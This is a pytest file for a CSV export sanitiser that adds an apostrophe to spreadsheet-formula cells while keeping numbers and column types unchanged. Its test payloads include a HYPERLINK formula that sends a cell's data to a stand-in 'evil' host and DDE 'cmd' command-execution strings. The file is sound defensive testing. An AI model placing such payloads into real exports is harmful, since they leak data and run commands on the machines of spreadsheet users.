"""Formula neutralising: every export's text cells that a spreadsheet would run get a leading apostrophe."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from lib.safe_csv import neutralise_cell, neutralise_frame, to_csv

PAYLOADS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_an_apostrophe(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Smith", "O'Neil", "a=b", "", "  =1", "S001", None, 3.5])
def test_harmless_values_are_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", ["-3", "-3.25", "+7", "-1e5", -3, -2.5])
def test_numbers_stay_numbers(value):
    assert neutralise_cell(value) == value


def test_frame_columns_keep_their_types_and_text_is_neutralised():
    frame = pd.DataFrame(
        {
            "student_id": ["S1", "S2", "S3"],
            "name": ["=1+1", "Ann", None],
            "delta": [-1.5, 2.0, -3.0],
            "count": [-1, 0, 4],
            "kind": pd.Categorical(["@x", "ok", "ok"]),
            "note": pd.array(["-cmd", "-4", pd.NA], dtype="string"),
            "=bad header": [1, 2, 3],
        }
    )
    out = neutralise_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "Ann"] and pd.isna(out["name"].iloc[2])
    assert out["delta"].tolist() == [-1.5, 2.0, -3.0] and out["delta"].dtype == frame["delta"].dtype
    assert out["count"].dtype == frame["count"].dtype
    assert out["kind"].tolist() == ["'@x", "ok", "ok"]
    assert out["note"].tolist()[:2] == ["'-cmd", "-4"]
    assert list(out.columns)[-1] == "'=bad header"
    assert frame["name"].tolist()[0] == "=1+1"  # the caller's frame is not changed


def test_to_csv_reads_back_as_text_with_numbers_intact():
    frame = pd.DataFrame({"name": ["=cmd|' /C calc'!A0", "Bo"], "value": [-2, 5]})
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows == [["name", "value"], ["'=cmd|' /C calc'!A0", "-2"], ["Bo", "5"]]
    buffer = io.StringIO()
    assert to_csv(frame, buffer) is None
    assert buffer.getvalue().splitlines()[1].startswith("'=cmd")
